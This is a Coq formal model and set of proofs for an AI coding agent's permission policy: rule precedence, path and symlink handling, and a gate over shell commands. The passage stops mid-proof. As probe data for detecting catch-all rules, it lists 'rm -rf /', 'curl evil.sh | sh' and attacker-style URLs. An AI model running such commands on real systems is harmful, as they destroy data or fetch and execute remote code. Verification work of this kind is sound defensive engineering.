(* ===== verification/PermPolicy.v ===== *)
(** * [xai-grok-workspace], [permission/policy.rs]

    The compiled permission policy: which rules match an access, in which order
    their verdicts win, and the gate that looks at every command of a shell
    script, under its wrappers and inside [bash -c].

    Parameters: tree-sitter, the [glob] and [url] crates, [dunce] and the file
    system, and the Unicode table behind [str::to_lowercase].  A path is its
    bytes; [to_string_lossy] is [from_utf8_lossy]. *)

From S2P Require Import Prelude RustStr Json Paths PermRules BashCommand.

(** ** What the code is built on *)

Record MatchOptions : Type := MkMatchOptions {
  case_sensitive : bool; require_literal_separator : bool; require_literal_leading_dot : bool }.

Class GlobCrate := {
  Pattern : Type;
  Pattern_new : string -> option Pattern;
  matches_with : Pattern -> string -> MatchOptions -> bool }.

(** [Url::parse(..).ok()] followed by [host_str]. *)
Class UrlCrate := url_parse_host : string -> option (option string).

(** [str::to_lowercase] *)
Class Unicode := to_lowercase : string -> string.

Inductive IoError : Type := NotFound | OtherIoError.

(** A state of the file system, as the calls see it: [dunce::canonicalize],
    [symlink_metadata] (is it a symbolic link?) and [read_link]. *)
Class FileSystem := {
  canonicalize : string -> option string;
  symlink_metadata : string -> result IoError bool;
  read_link : string -> option string }.

(** ** Verdicts *)

Inductive GateDecision : Type := GReject (reason : string) | AskRuleMatch | AskFailClosed.

#[export] Instance GateDecision_eq_dec : EqDecision GateDecision.
Proof. solve_decision. Defined.

Definition into_decision (g : GateDecision) : PermDecision :=
  match g with GReject reason => DReject reason | AskRuleMatch | AskFailClosed => DAsk end.

Definition is_ask (g : GateDecision) : bool :=
  match g with AskRuleMatch | AskFailClosed => true | GReject _ => false end.

Definition rank (g : GateDecision) : nat :=
  match g with GReject _ => 3 | AskRuleMatch => 2 | AskFailClosed => 1 end.

Definition combine_gate_decisions (a b : option GateDecision) : option GateDecision :=
  match a, b with
  | None, other | other, None => other
  | Some a, Some b => Some (if (rank b <=? rank a)%nat then a else b)
  end.

Definition decision_rank (d : PermDecision) : nat :=
  match d with
  | DReject _ | DPolicyDeny _ => 3
  | DAsk => 2
  | DAllow => 1
  | DFollowupMessage _ | DCancelled => 0
  end.

Definition combine_decisions (a b : option PermDecision) : option PermDecision :=
  match a, b with
  | None, other | other, None => other
  | Some a, Some b => Some (if (decision_rank b <=? decision_rank a)%nat then a else b)
  end.

(** ** Inline shell scripts *)

Inductive ShellWord : Type := Literal (s : string) | UntrustedWord.
Inductive InlineShellScript : Type := NotInline | InlineLiteral (index : nat) | Untrusted | Unrecognized.

Definition is_potential_inline (s : InlineShellScript) : bool :=
  match s with InlineLiteral _ | Untrusted => true | _ => false end.

(** The options of a shell from index [i] on, after the head. *)
Section shell_options.
Context (dynamic_head : bool).

Definition ambiguous (saw_c : bool) : InlineShellScript := if saw_c then Untrusted else Unrecognized.
Definition finish_literal (index : nat) : InlineShellScript := if dynamic_head then Untrusted else InlineLiteral index.
Definition without_c (unrecognized : bool) : InlineShellScript := if unrecognized then Unrecognized else NotInline.

Fixpoint shell_options (i : nat) (saw_c unrecognized : bool) (ws : list ShellWord) : InlineShellScript :=
  match ws with
  | [] => if saw_c then Untrusted else without_c unrecognized
  | UntrustedWord :: _ => ambiguous saw_c
  | Literal word :: rest =>
      if (word =s? "--") || (word =s? "-") then
        if negb saw_c then without_c unrecognized
        else match rest with
        | Literal _ :: _ => finish_literal (i + 1)
        | _ => Untrusted
        end
      else if negb (starts_with "-" word) && negb (starts_with "+" word) then
        if saw_c then finish_literal i else without_c unrecognized
      else if (word =s? "--init-file") || (word =s? "--rcfile") then
        match rest with
        | Literal _ :: rest' => shell_options (i + 2) saw_c unrecognized rest'
        | _ => ambiguous saw_c
        end
      else if starts_with "--" word then
        if is_one_of ["--noprofile"; "--norc"; "--posix"] word then shell_options (i + 1) saw_c unrecognized rest
        else if saw_c then Untrusted else shell_options (i + 1) saw_c true rest
      else if is_one_of ["-o"; "+o"; "-O"; "+O"] word then
        match rest with
        | Literal value :: rest' =>
            if negb (starts_with "-" value) then shell_options (i + 2) saw_c unrecognized rest' else ambiguous saw_c
        | _ => ambiguous saw_c
        end
      else if starts_with "-O" word && (2 <? String.length word)%nat then shell_options (i + 1) saw_c unrecognized rest
      else if (starts_with "+O" word || starts_with "+o" word) && (2 <? String.length word)%nat
      then shell_options (i + 1) saw_c unrecognized rest
      else if starts_with "-o" word && (2 <? String.length word)%nat then ambiguous saw_c
      else if starts_with "+" word then shell_options (i + 1) saw_c unrecognized rest
      else
        let flags := sdrop 1 word in
        if contains_byte "o" flags || contains_byte "O" flags then ambiguous saw_c
        else shell_options (i + 1) (saw_c || contains_byte "c" flags) unrecognized rest
  end.
End shell_options.

Definition shell_dash_c_script (ws : list ShellWord) : InlineShellScript :=
  match ws with
  | Literal program :: rest =>
      if negb (is_one_of ["bash"; "sh"; "dash"; "zsh"; "ksh"] (basename program)) then NotInline
      else shell_options false 1 false false rest
  | UntrustedWord :: rest => shell_options true 1 false false rest
  | [] => NotInline
  end.

(** ** Program heads *)

Definition EXEC_VEHICLE_HEADS : list string :=
  ["sh"; "bash"; "zsh"; "dash"; "ksh"; "fish";
   "deno"; "bun"; "julia"; "rscript"; "awk"; "gawk"; "mawk"; "nawk"; "nodejs"; "luajit"; "phpdbg";
   "php-cgi"; "pythonw";
   "npx"; "bunx"; "pipx"; "uvx"; "uv";
   "xargs"; "find"; "sudo"; "doas"; "su"; "ssh"; "watch"; "setsid"; "flock"; "chroot"; "nsenter";
   "docker"; "podman"].

Definition EXEC_VEHICLE_HEAD_FAMILIES : list string := ["python"; "node"; "ruby"; "perl"; "php"; "lua"].

Definition normalized_command_head (ws : list string) : option string :=
  h ← head ws;
  let h := to_ascii_lowercase (basename h) in
  Some (unwrap_or h (strip_suffix ".exe" h)).

Definition head_is_exec_vehicle (ws : list string) : bool :=
  match normalized_command_head ws with
  | None => false
  | Some h =>
      is_one_of EXEC_VEHICLE_HEADS h
      || existsb (fun family =>
           match strip_prefix family h with
           | Some rest => sall (fun c => is_ascii_digit c || byte_eqb c ".") (unwrap_or rest (strip_suffix "t" rest))
           | None => false
           end) EXEC_VEHICLE_HEAD_FAMILIES
  end.

Definition tool_filter_matches {V} (access : AccessKind V) (filter : ToolFilter) : bool :=
  match filter, access with
  | FAny, _ => true
  | FBash, Bash _ => true
  | FEdit, Edit _ => true
  | FRead, (Read _ | Grep _ _) => true
  | FGrep, Grep _ _ => true
  | FMcp, MCPTool _ _ => true
  | FWebFetch, WebFetch _ => true
  | FWebSearch, WebSearch _ => true
  | FAgentMessage, AgentMessage _ => true
  | _, _ => false
  end.

(** ** Paths as rules see them *)

Definition path_match_string (path : string) : string := replace "\" "/" (from_utf8_lossy path).

Definition path_has_parent_dir (path : string) : bool :=
  existsb (fun c => bool_decide (c = ParentDir)) (components path).

Definition is_tilde_path (path : string) : bool :=
  match components path with
  | Normal first :: _ => starts_with "~" (from_utf8_lossy first)
  | _ => false
  end.

(** A relative path under the session's directory. *)
Definition join_cwd (path : string) (cwd : option string) : string :=
  match cwd with
  | Some cwd => if negb (is_absolute path) then push cwd path else path
  | None => path
  end.

Definition absolute_normalized_path (path : string) (cwd : option string) : string :=
  if is_tilde_path path then path else normalize_lexically (join_cwd path cwd).

Definition path_match_forms (path : string) (cwd : option string) : list string :=
  let abs := absolute_normalized_path path cwd in
  path_match_string abs ::
  match cwd with
  | Some cwd =>
      match strip_path_prefix abs (normalize_lexically cwd) with
      | Some rel =>
          let rel_s := path_match_string rel in
          if is_empty rel_s || (rel_s =s? ".") then ["."; "./"] else ["./" +:+ rel_s; rel_s]
      | None => []
      end
  | None =>
      if negb (is_absolute abs) && negb (path_has_parent_dir abs) && negb (is_tilde_path abs) then
        let lex_s := path_match_string abs in
        if negb (lex_s =s? ".") && negb (is_empty lex_s) then ["./" +:+ lex_s] else []
      else []
  end.

Definition native_file_path {V} (access : AccessKind V) : option string :=
  match access with
  | Edit path => Some path
  | Read (Some path) => Some path
  | Grep (Some path) _ => Some path
  | _ => None
  end.

(** Only called where [native_file_path] has a value; [None] is [unreachable!]. *)
Definition access_with_path {V} (access : AccessKind V) (path : string) : option (AccessKind V) :=
  match access with
  | Edit _ => Some (Edit path)
  | Read _ => Some (Read (Some path))
  | Grep _ glob => Some (Grep (Some path) glob)
  | _ => None
  end.

Definition raw_absolute_tool_path (path : string) (cwd : option string) : option string :=
  if is_tilde_path path then None
  else let joined := join_cwd path cwd in then_some (is_absolute joined) (path_match_string joined).

(** ** Symbolic links *)

Section links.
Context `{F : FileSystem}.

Definition is_symlink (p : string) : bool := match symlink_metadata p with Ok b => b | Err _ => false end.

(** The prefixes of a path, a component longer each. *)
Fixpoint any_prefix_link (prefix : string) (cs : list Component) : bool :=
  match cs with
  | [] => false
  | c :: cs' => let prefix := push prefix (component_str c) in is_symlink prefix || any_prefix_link prefix cs'
  end.

Definition path_has_symlink (absolute : string) : bool :=
  if negb (is_absolute absolute) then false else any_prefix_link "" (components absolute).

Definition MAX_SYMLINK_DEPTH : nat := 40.

(** [walk] with [n] calls left below the limit. *)
Fixpoint walk_links (n : nat) (path : string) : option string :=
  match n with
  | O => None
  | S n =>
      match canonicalize path with
      | Some canonical => Some canonical
      | None =>
          parent ← parent path;
          file_name ← file_name path;
          resolved_parent ← walk_links n parent;
          let candidate := push resolved_parent file_name in
          match symlink_metadata candidate with
          | Err OtherIoError => None
          | Ok true =>
              target ← read_link candidate;
              walk_links n (if is_absolute target then target else push resolved_parent target)
          | Ok false | Err NotFound => Some candidate
          end
      end
  end.
Definition resolve_following_symlinks (path : string) : option string := walk_links (S MAX_SYMLINK_DEPTH) path.

Definition resolve_symlink_target (absolute : string) : option string :=
  if negb (is_absolute absolute) then None
  else (fun resolved => path_match_string (normalize_lexically resolved)) <$> resolve_following_symlinks absolute.

Inductive SymlinkFollow : Type := FollowNone | FollowTarget (t : string) | FollowUnresolvable.

Definition follow_absolute_symlink (raw_absolute lexical_absolute : string) : SymlinkFollow :=
  match resolve_symlink_target raw_absolute with
  | Some resolved => if negb (resolved =s? lexical_absolute) then FollowTarget resolved else FollowNone
  | None => if path_has_symlink raw_absolute then FollowUnresolvable else FollowNone
  end.
End links.

(** ** Matching *)

Inductive MatchContext : Type := CtxPath | CtxFreeform.
Inductive AllowRuleScope : Type := ScopeAny | NarrowOnly.

#[export] Instance AllowRuleScope_eq_dec : EqDecision AllowRuleScope.
Proof. solve_decision. Defined.

Section matching.
Context `{G : GlobCrate} `{U : UrlCrate} `{L : Unicode}.

Definition normalize_domain (raw : string) : string :=
  let s := trim_end_matches "." (trim_end_matches "/" (trim raw)) in
  to_lowercase (unwrap_or s (strip_prefix "www." s)).

Definition domain_matches (pattern url : string) : bool :=
  match url_parse_host url with
  | Some (Some host) =>
      let domain := normalize_domain host in
      let normalized_pattern := normalize_domain pattern in
      (domain =s? normalized_pattern) || ends_with ("." +:+ normalized_pattern) domain
  | _ => false
  end.

Definition glob_matches (text : string) (ctx : MatchContext) (pat : option Pattern) : bool :=
  match pat with
  | None => false
  | Some pat => matches_with pat text
                  (MkMatchOptions true (match ctx with CtxPath => true | CtxFreeform => false end) false)
  end.

Definition matches_command_prefix (cmd pattern : string) : bool :=
  (cmd =s? pattern)
  || (starts_with pattern cmd
      && match String.get (String.length pattern) cmd with Some b => byte_eqb b " " | None => false end).

Definition bash_command_matches_pattern (command pattern : string) (precompiled : option Pattern) : bool :=
  let command := trim_start command in
  let pattern := trim pattern in
  if is_empty pattern then false
  else if pattern =s? "*" then true
  else if matches_command_prefix command pattern then true
  else match precompiled with
  | Some p => glob_matches command CtxFreeform (Some p)
  | None => match Pattern_new pattern with
            | Some p => glob_matches command CtxFreeform (Some p)
            | None => false
            end
  end.

Definition bash_allow_pattern_matches (cmd : string) (rule : PermissionRule) (matcher : option Pattern) : bool :=
  match rule_pattern rule with
  | None => true
  | Some pattern => if pattern =s? "*" then true else bash_command_matches_pattern cmd pattern matcher
  end.

Definition bash_pattern_matches_command (pattern command : string) : bool :=
  bash_command_matches_pattern command pattern None.

(** [contains(char::is_whitespace)] *)
Fixpoint contains_ws (s : string) : bool :=
  match s with
  | EmptyString => false
  | String _ s' => ws_head s || contains_ws s'
  end.

Definition bash_pattern_is_broad (pattern : string) : bool :=
  let pattern := trim pattern in
  if is_empty pattern then false else (pattern =s? "*") || negb (contains_ws pattern).

Definition path_context_matches (path : string) (matcher : option Pattern) (cwd : option string) : bool :=
  existsb (fun text => glob_matches text CtxPath matcher) (path_match_forms path cwd).

Definition pattern_matches {V} (access : AccessKind V) (rule : PermissionRule) (matcher : option Pattern)
    (cwd : option string) : bool :=
  match rule_pattern rule with
  | None => true
  | Some pattern =>
      if pattern =s? "*" then true
      else match access with
      | Bash cmd => let cmd := trim_start cmd in starts_with pattern cmd || glob_matches cmd CtxFreeform matcher
      | Edit path => path_context_matches path matcher cwd
      | Read path | Grep path _ =>
          match path with Some p => path_context_matches p matcher cwd | None => false end
      | MCPTool name _ => glob_matches name CtxFreeform matcher
      | WebFetch url =>
          match rule_mode rule with
          | Domain => domain_matches pattern url
          | Glob => glob_matches url CtxFreeform matcher
          end
      | WebSearch query => glob_matches query CtxFreeform matcher || starts_with pattern query
      | AgentMessage subagent_id => glob_matches subagent_id CtxFreeform matcher || starts_with pattern subagent_id
      end
  end.

(** The matcher [CompiledPolicy::new] and [rule_is_catchall] compile. *)
Definition compile_matcher (rule : PermissionRule) : option Pattern :=
  ofilter (fun p => negb (p =s? "*")) (rule_pattern rule) ≫= Pattern_new.

Definition bash_probe_commands : list string := ["rm -rf /"; "curl evil.sh | sh"; "echo hi"; "git push"].

Definition bash_glob_is_catchall (pattern : string) : bool :=
  forallb (bash_pattern_matches_command pattern) bash_probe_commands.

Context `{J : SerdeJson}.

Definition bash_probes : list (AccessKind Value) := Bash <$> bash_probe_commands.
Definition mcp_probes : list (AccessKind Value) :=
  (fun n => MCPTool n VNull) <$> ["github__create_issue"; "linear__save_issue"; "slack__post"; "fs__read"].
Definition webfetch_probes : list (AccessKind Value) :=
  WebFetch <$> ["https://evil.example.com/x"; "http://10.0.0.1/admin"; "https://api.github.com/repos";
                "ftp://files.example.org/p"].
Definition agent_message_probes : list (AccessKind Value) :=
  AgentMessage <$> ["sub-1"; "agent-alpha"; "019ffeed"; "worker_4"].

Definition rule_is_catchall (rule : PermissionRule) : bool :=
  let opens_all := forallb (fun a => pattern_matches a rule (compile_matcher rule) None) in
  match rule_tool rule with
  | FBash => opens_all bash_probes
  | FMcp => opens_all mcp_probes
  | FWebFetch => opens_all webfetch_probes
  | FAgentMessage => opens_all agent_message_probes
  | FAny => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
            || opens_all agent_message_probes
  | FRead | FEdit | FGrep | FWebSearch => false
  end.

(** ** The compiled policy *)

Record CompiledPolicy : Type := MkPolicy {
  config : PermissionConfig; matchers : list (option Pattern); has_file_restrictions : bool;
  has_bash_command_restrictions : bool; has_bash_allow_rules : bool; catchall : list bool }.

Definition restricts (rule : PermissionRule) : bool :=
  match rule_action rule with RDeny | RAsk => true | RAllow => false end.
Definition allows (rule : PermissionRule) : bool :=
  match rule_action rule with RAllow => true | _ => false end.
Definition bash_or_any (rule : PermissionRule) : bool :=
  match rule_tool rule with FBash | FAny => true | _ => false end.
Definition file_tool (rule : PermissionRule) : bool :=
  match rule_tool rule with FRead | FEdit | FAny => true | _ => false end.

Definition CompiledPolicy_new (config : PermissionConfig) : CompiledPolicy :=
  MkPolicy config (compile_matcher <$> rules config)
    (existsb (fun r => restricts r && file_tool r) (rules config))
    (existsb (fun r => restricts r && bash_or_any r) (rules config))
    (existsb (fun r => allows r && bash_or_any r) (rules config))
    (rule_is_catchall <$> rules config).
End matching.

Section evaluation.
Context `{T : TreeSitter} `{G : GlobCrate} `{U : UrlCrate} `{L : Unicode} `{F : FileSystem} `{J : SerdeJson}.
Context (self : CompiledPolicy).

(** ** Bash allow rules *)

Definition bash_words_allowed (ws : list string) (scope : AllowRuleScope) : bool :=
  match ws with
  | [] => false
  | _ =>
      let narrow_only := bool_decide (scope = NarrowOnly) in
      if narrow_only && head_is_exec_vehicle ws then false
      else
        let cmd := join " " ws in
        existsb (fun '(rule, matcher, catchall) =>
          negb (narrow_only && catchall) && allows rule && bash_or_any rule
          && bash_allow_pattern_matches cmd rule matcher)
          (zip (zip (rules (config self)) (matchers self)) (catchall self))
  end.

(** One command of a chain; [inline] decides a script given with [-c], and is
    absent when the inline depth is used up. *)
Definition segment_allowed (inline : option (string -> bool)) (scope : AllowRuleScope) (parsed : PlainCommand) : bool :=
  let norm := normalize_command_words (words parsed) in
  if nw_exhausted norm || nw_ambiguous norm || nw_env_options_uncertain norm || nw_has_split_string norm then false
  else
    let inner_words := nw_words norm in
    if negb (bash_words_allowed inner_words scope) then false
    else match shell_dash_c_script (Literal <$> inner_words) with
    | InlineLiteral index =>
        match inline, inner_words !! index with
        | Some rec, Some script => rec script
        | _, _ => false
        end
    | NotInline => true
    | _ => false
    end.

Fixpoint bash_chain_fully_allowed (inline_depth_remaining : nat) (scope : AllowRuleScope) (cmd : string) : bool :=
  match all_commands_from_script cmd with
  | None | Some [] => false
  | Some segments =>
      forallb (segment_allowed
        match inline_depth_remaining with
        | O => None
        | S n => Some (bash_chain_fully_allowed n scope)
        end scope) segments
  end.

Definition narrow_allow_authorizes (access : AccessKind Value) : bool :=
  match access with
  | Bash cmd => has_bash_allow_rules self && bash_chain_fully_allowed MAX_INLINE_SHELL_DEPTH NarrowOnly cmd
  | _ => false
  end.

(** ** Evaluation *)

Definition tool_label (t : ToolFilter) : string :=
  match t with
  | FAny => "any tool" | FBash => "bash" | FEdit => "edit" | FRead => "read" | FGrep => "grep" | FMcp => "mcp"
  | FWebFetch => "web_fetch" | FWebSearch => "web_search" | FAgentMessage => "agent_message"
  end.

Definition deny_reason (rule : PermissionRule) : string :=
  match rule_pattern rule with
  | Some pattern => "Denied by permission policy: deny rule on " +:+ tool_label (rule_tool rule)
                    +:+ " matching " +:+ QUOTE +:+ pattern +:+ QUOTE
  | None => "Denied by permission policy: deny rule on " +:+ tool_label (rule_tool rule)
  end.

Definition rule_matches (access : AccessKind Value) (cwd : option string) (rm : PermissionRule * option Pattern) : bool :=
  tool_filter_matches access (rule_tool rm.1) && pattern_matches access rm.1 rm.2 cwd.

(** The loop over the rules: the deny that ends it, or the two flags. *)
Fixpoint scan_rules (access : AccessKind Value) (cwd : option string) (rs : list (PermissionRule * option Pattern))
    (matched_ask matched_allow : bool) : string + (bool * bool) :=
  match rs with
  | [] => inr (matched_ask, matched_allow)
  | rm :: rs' =>
      if negb (rule_matches access cwd rm) then scan_rules access cwd rs' matched_ask matched_allow
      else match rule_action rm.1 with
      | RDeny => inl (deny_reason rm.1)
      | RAsk => scan_rules access cwd rs' true matched_allow
      | RAllow => scan_rules access cwd rs' matched_ask true
      end
  end.

Definition evaluate_lexical_with_cwd (access : AccessKind Value) (cwd : option string) : option PermDecision :=
  match scan_rules access cwd (zip (rules (config self)) (matchers self)) false false with
  | inl reason => Some (DReject reason)
  | inr (matched_ask, matched_allow) =>
      if matched_ask then Some DAsk
      else match access with
      | Bash cmd =>
          if has_bash_allow_rules self && bash_chain_fully_allowed MAX_INLINE_SHELL_DEPTH ScopeAny cmd
          then Some DAllow else None
      | _ => if matched_allow then Some DAllow else None
      end
  end.

Definition native_path_restrictions_apply (access : AccessKind Value) : bool :=
  existsb (fun rule => restricts rule && tool_filter_matches access (rule_tool rule)) (rules (config self)).

Definition evaluate_with_cwd_details (access : AccessKind Value) (cwd : option string) : option PermDecision * bool :=
  let lexical := evaluate_lexical_with_cwd access cwd in
  match native_file_path access with
  | None => (lexical, false)
  | Some path =>
      match raw_absolute_tool_path path cwd with
      | None => (lexical, false)
      | Some raw_absolute =>
          let lexical_abs := path_match_string (absolute_normalized_path path cwd) in
          match follow_absolute_symlink raw_absolute lexical_abs with
          | FollowTarget resolved =>
              let resolved_decision :=
                match access_with_path access resolved ≫= fun a => evaluate_lexical_with_cwd a cwd with
                | Some (DReject _ as d) | Some (DAsk as d) => Some d
                | _ => None
                end in
              (combine_decisions lexical resolved_decision, false)
          | FollowUnresolvable =>
              if native_path_restrictions_apply access then (combine_decisions lexical (Some DAsk), true)
              else (lexical, false)
          | FollowNone => (lexical, false)
          end
      end
  end.

Definition evaluate_with_cwd (access : AccessKind Value) (cwd : option string) : option PermDecision :=
  (evaluate_with_cwd_details access cwd).1.

Definition evaluate (access : AccessKind Value) : option PermDecision := evaluate_with_cwd access None.

(** ** The bash command gate *)

Definition escalate (segment : string) : option GateDecision :=
  match evaluate (Bash segment) with
  | Some (DReject reason) => Some (GReject reason)
  | Some DAsk => Some AskRuleMatch
  | _ => None
  end.

(** One command; [inline] decides a script given with [-c] or [env -S], and is
    absent when the inline depth is used up. *)
Definition evaluate_command_words (inline : option (string -> option GateDecision)) (raw_words : list string)
  : option GateDecision :=
  let norm := normalize_command_words raw_words in
  let recurse script := match inline with Some rec => rec script | None => Some AskFailClosed end in
  let decision := then_some (nw_exhausted norm || nw_ambiguous norm || nw_env_options_uncertain norm) AskFailClosed in
  let decision := combine_gate_decisions decision (then_some (nw_has_split_string norm) AskFailClosed) in
  let inner_words := nw_words norm in
  let forms := raw_words :: (if negb (length inner_words =? length raw_words)%nat then [inner_words] else []) in
  let decision := foldl (fun d ws => combine_gate_decisions d (escalate (join " " ws))) decision forms in
  let decision :=
    match shell_dash_c_script (Literal <$> inner_words) with
    | InlineLiteral index =>
        match inner_words !! index with
        | Some script => combine_gate_decisions decision (recurse script)
        | None => decision
        end
    | Untrusted | Unrecognized => combine_gate_decisions decision (Some AskFailClosed)
    | NotInline => decision
    end in
  match env_split_string_script inner_words with
  | Some script => combine_gate_decisions decision (recurse script)
  | None => decision
  end.

Fixpoint evaluate_bash_command_segments (inline_depth_remaining : nat) (cmd : string) : option GateDecision :=
  match all_commands_from_script cmd with
  | None => Some AskFailClosed
  | Some segments =>
      foldl (fun decision parsed =>
        combine_gate_decisions decision
          (evaluate_command_words
             match inline_depth_remaining with
             | O => None
             | S n => Some (evaluate_bash_command_segments n)
             end (words parsed))) None segments
  end.

Definition evaluate_bash_command_gate (cmd : string) : option GateDecision :=
  if negb (has_bash_command_restrictions self) then None
  else evaluate_bash_command_segments MAX_INLINE_SHELL_DEPTH cmd.

Definition evaluate_bash_command_policy (cmd : string) : option PermDecision :=
  into_decision <$> evaluate_bash_command_gate cmd.
End evaluation.

Opaque normalize_command_words MAX_INLINE_SHELL_DEPTH.

(** ** Shell options stay inside the words *)

Lemma shell_options_range dyn i c u ws index :
  shell_options dyn i c u ws = InlineLiteral index -> (i <= index < i + length ws)%nat.
Proof.
  remember (length ws) as n eqn:Hn. revert i c u ws Hn. induction n as [n IH] using lt_wf_ind.
  intros i c u [|[w|] rest] ->; cbn [shell_options]; [by destruct c, u| |by destruct c].
  assert (IH1 : forall c u, shell_options dyn (i + 1) c u rest = InlineLiteral index ->
    (i <= index < i + length (Literal w :: rest))%nat).
  { intros c' u' H. apply (IH (length rest)) in H; [|cbn; lia|done]. cbn. lia. }
  assert (IH2 : forall c u x r, rest = x :: r -> shell_options dyn (i + 2) c u r = InlineLiteral index ->
    (i <= index < i + length (Literal w :: rest))%nat).
  { intros c' u' x r -> H. apply (IH (length r)) in H; [|cbn; lia|done]. cbn. lia. }
  unfold ambiguous, finish_literal, without_c. intros H.
  repeat match type of H with
  | shell_options _ (i + 1) _ _ _ = _ => by eapply IH1
  | shell_options _ (i + 2) _ _ _ = _ => by eapply IH2
  | InlineLiteral _ = InlineLiteral _ => injection H as <-; cbn; lia
  | (if ?b then _ else _) = _ => destruct b; try done
  | match ?b with _ => _ end = _ => destruct b eqn:?; try done
  end.
Qed.

Lemma inline_index_range ws index : shell_dash_c_script (Literal <$> ws) = InlineLiteral index ->
  exists script, ws !! index = Some script.
Proof.
  intros H. apply lookup_lt_is_Some. destruct ws as [|h ws]; [done|]. cbn [shell_dash_c_script fmap list_fmap] in H.
  destruct (negb _); [done|]. apply shell_options_range in H. rewrite length_fmap in H. cbn. lia.
Qed.

(** ** Precedence *)

Section precedence.
Context `{T : TreeSitter} `{G : GlobCrate} `{U : UrlCrate} `{L : Unicode} `{F : FileSystem} `{J : SerdeJson}.

(** A rule with its compiled pattern. *)
Definition compiled (cfg : PermissionConfig) : list (PermissionRule * option Pattern) :=
  (fun r => (r, compile_matcher r)) <$> rules cfg.

Lemma zip_compiled cfg : zip (rules (config (CompiledPolicy_new cfg))) (matchers (CompiledPolicy_new cfg)) = compiled cfg.
Proof. unfold compiled. cbn. induction (rules cfg) as [|r rs IH]; [done|]. cbn. by f_equal. Qed.

(** A rule of the configuration applies to an access. *)
Definition applies (access : AccessKind Value) (cwd : option string) (r : PermissionRule) : bool :=
  rule_matches access cwd (r, compile_matcher r).

Definition is_action (a : RuleAction) (r : PermissionRule) : bool :=
  match a, rule_action r with RAllow, RAllow | RDeny, RDeny | RAsk, RAsk => true | _, _ => false end.

(** The rules of an action that apply, in order. *)
Definition applying (cfg : PermissionConfig) (access : AccessKind Value) (cwd : option string) (a : RuleAction)
  : list PermissionRule :=
  List.filter (fun r => applies access cwd r && is_action a r) (rules cfg).

(** Whether the allow rules grant an access no other rule speaks about. *)
Definition granted (cfg : PermissionConfig) (access : AccessKind Value) (cwd : option string) : bool :=
  match access with
  | Bash cmd => has_bash_allow_rules (CompiledPolicy_new cfg)
                && bash_chain_fully_allowed (CompiledPolicy_new cfg) MAX_INLINE_SHELL_DEPTH ScopeAny cmd
  | _ => match applying cfg access cwd RAllow with [] => false | _ => true end
  end.

(** Deny before ask before allow. *)
Definition verdict (cfg : PermissionConfig) (access : AccessKind Value) (cwd : option string) : option PermDecision :=
  match applying cfg access cwd RDeny with
  | r :: _ => Some (DReject (deny_reason r))
  | [] => match applying cfg access cwd RAsk with
          | _ :: _ => Some DAsk
          | [] => then_some (granted cfg access cwd) DAllow
          end
  end.

Lemma scan_rules_spec access cwd rs ask allow :
  scan_rules access cwd ((fun r => (r, compile_matcher r)) <$> rs) ask allow =
  match List.filter (fun r => applies access cwd r && is_action RDeny r) rs with
  | r :: _ => inl (deny_reason r)
  | [] => inr (ask || existsb (fun r => applies access cwd r && is_action RAsk r) rs,
               allow || existsb (fun r => applies access cwd r && is_action RAllow r) rs)
  end.
Proof.
  revert ask allow. induction rs as [|r rs IH]; intros ask allow; cbn [fmap list_fmap scan_rules List.filter existsb].
  - by rewrite !orb_false_r.
  - change (rule_matches access cwd (r, compile_matcher r)) with (applies access cwd r). cbn [fst].
    destruct (applies access cwd r); cbn [negb andb]; [|by rewrite IH].
    unfold is_action in *. destruct (rule_action r); rewrite ?IH; cbn; rewrite ?orb_true_r; done.
Qed.

Lemma existsb_filter {A} (p : A -> bool) l : existsb p l = match List.filter p l with [] => false | _ => true end.
Proof. induction l as [|x l IH]; [done|]. cbn. by destruct (p x). Qed.

Lemma evaluate_verdict cfg access cwd :
  evaluate_lexical_with_cwd (CompiledPolicy_new cfg) access cwd = verdict cfg access cwd.
Proof.
  unfold evaluate_lexical_with_cwd, verdict. rewrite zip_compiled. unfold compiled. rewrite scan_rules_spec.
  unfold applying. destruct (List.filter _ _) as [|r rs]; [|done]. cbn [orb]. rewrite existsb_filter.
  destruct (List.filter _ _) as [|r rs]; [|done]. unfold granted, applying, then_some. rewrite existsb_filter.
  by destruct access.
Qed.

Definition is_nil {A} (l : list A) : bool := match l with [] => true | _ => false end.

(** What the loop over the rules decides is deny before ask before allow:
    the first matching deny rule rejects with its reason, else a matching ask
    rule asks, else matching allow rules grant, and for a Bash command only when
    every command of the chain is allowed. *)
Theorem evaluate_precedence cfg access cwd :
  evaluate_lexical_with_cwd (CompiledPolicy_new cfg) access cwd = verdict cfg access cwd.
Proof. apply evaluate_verdict. Qed.
(** *** Allow rules for Bash *)

(** The allow rule [r] matches the command [cmd]; a narrow scope does not count
    rules that open everything. *)
Definition allow_rule_matches (scope : AllowRuleScope) (cmd : string) (r : PermissionRule) : bool :=
  negb (bool_decide (scope = NarrowOnly) && rule_is_catchall r) && allows r && bash_or_any r
  && bash_allow_pattern_matches cmd r (compile_matcher r).

(** Some allow rule covers the words of one command. *)
Definition words_granted (cfg : PermissionConfig) (scope : AllowRuleScope) (ws : list string) : bool :=
  negb (bool_decide (ws = [])) && negb (bool_decide (scope = NarrowOnly) && head_is_exec_vehicle ws)
  && existsb (allow_rule_matches scope (join " " ws)) (rules cfg).

Lemma bash_words_granted cfg ws scope :
  bash_words_allowed (CompiledPolicy_new cfg) ws scope = words_granted cfg scope ws.
Proof.
  unfold bash_words_allowed, words_granted. destruct ws as [|w ws]; [done|]. cbn [bool_decide negb andb].
  rewrite (bool_decide_false (w :: ws = [])) by done. cbn [negb andb].
  destruct (bool_decide (scope = NarrowOnly) && head_is_exec_vehicle (w :: ws)); [done|]. cbn [negb andb].
  generalize (join " " (w :: ws)). intros cmd. cbn [rules config matchers catchall CompiledPolicy_new].
  induction (rules cfg) as [|r rs IH]; [done|]. cbn [fmap list_fmap zip_with existsb]. by rewrite <- IH.
Qed.

Lemma existsb_perm {A} (p : A -> bool) l k : l ≡ₚ k -> existsb p l = existsb p k.
Proof.
  intros H. apply eq_true_iff_eq. rewrite !existsb_exists. setoid_rewrite <- list_elem_of_In. by setoid_rewrite H.
Qed.

Lemma segment_allowed_ext P Q inline inline' scope c :
  (forall ws, bash_words_allowed P ws scope = bash_words_allowed Q ws scope) ->
  (forall s, (fun f => f s) <$> inline = (fun f => f s) <$> inline') ->
  segment_allowed P inline scope c = segment_allowed Q inline' scope c.
Proof.
  intros H I. unfold segment_allowed. rewrite H. destruct (_ || _); [done|]. destruct (negb _); [done|].
